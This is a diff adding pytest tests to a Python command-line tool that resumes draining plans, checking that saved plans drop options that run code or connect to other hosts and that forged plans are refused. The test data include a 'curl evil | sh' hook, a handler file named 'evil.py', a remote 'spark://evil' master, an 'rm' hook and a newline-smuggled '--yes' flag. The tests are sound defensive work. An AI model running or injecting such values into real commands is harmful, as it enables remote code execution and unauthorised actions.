@@ -12,9 +12,10 @@ import typer
 from builders import changed
 from drainer.cli.app import app
 from drainer.cli.draining import resuming_with
+from drainer.errors import PlanRefused
+from drainer.model.account import Resuming
 from drainer.model.deadline import parse_deadline
 from drainer.model.plan import OffsetPlan
-from drainer.model.status import Resuming
 from drainer.model.terms import PayloadSettings
 from view.samples import plan
 
@@ -142,3 +143,39 @@ def test_the_endpoint_of_a_state_is_repeated_for_no_plan_holds_it() -> None:
     assert given("--spark-conf", f"drainer.state={uri}").command("p.json") == (
         f"drainer resume p.json --spark-conf 'drainer.state={uri}'"
     )
+
+
+def test_a_plan_keeps_no_option_that_runs_code_or_connects_elsewhere() -> None:
+    harmless = ["--concurrency", "500", "--tune", "buffer=1GiB", "--set", "index=a b"]
+    harmless += ["--engine", "spark", "--master", "local[2]", "--report", "r.html"]
+    asked_for = ["--handler", "h.py:H", "--value-format", "m:decode", "-b", "other:9092"]
+    asked_for += ["--tune", "key-format=m:key", "--client-config", "mine.conf"]
+    apart = ["-X", "a.b=c", "--set", "url=http://s/drain", "--set", "split=s.py"]
+    apart += ["--spark-conf", "spark.jars=j", "--tune", "on-end=rm x"]
+    found = given("p.json", *harmless, *asked_for, *apart, command="resume").to_keep()
+    pairs = set(zip(found.options[::2], found.options[1::2], strict=True))
+    assert pairs == set(zip(harmless[::2], harmless[1::2], strict=True))
+    assert set(found.needs) == {
+        *("--client-property a.b=…", "--set url=…", "--set split=…"),
+        *("--spark-conf spark.jars=…", "--tune on-end=…"),
+    }
+    changed(PLAN, resuming=found).account.check()
+    elsewhere = Resuming(("--master", "spark://h:7077"), engine="spark").to_keep()
+    assert elsewhere.options == ("--engine", "spark"), "it does not continue in one process"
+    assert elsewhere.needs == ("--master …",)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("--handler", "evil.py:H"),
+        ("--tune", "on-end=curl evil | sh"),
+        ("--master", "spark://evil:7077"),
+        ("--yes",),
+        ("--engine", "spark\n--yes"),
+    ],
+)
+def test_a_plan_that_would_print_another_command_is_refused(words: tuple[str, ...]) -> None:
+    forged = changed(PLAN, resuming=Resuming(words))
+    with pytest.raises(PlanRefused, match="does not keep"):
+        OffsetPlan.decode(forged.encode())
